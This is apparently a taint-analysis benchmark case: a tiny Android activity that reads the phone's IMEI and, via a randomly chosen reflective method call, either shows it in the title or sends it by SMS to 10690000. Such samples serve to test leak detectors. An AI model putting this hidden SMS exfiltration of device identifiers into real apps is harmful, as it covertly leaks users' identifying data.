// about       Which name of the array is taken is drawn; one of them sends.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Random;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String[] names = {"show", "send"};
    String name = names[new Random().nextInt(names.length)];
    try {
      getClass().getMethod(name, String.class).invoke(this, phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  public void send(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  public void show(String text) {
    setTitle(text);
  }

  public void keep(String text) {
    getPreferences(MODE_PRIVATE).edit().putString("id", text).apply();
  }
}
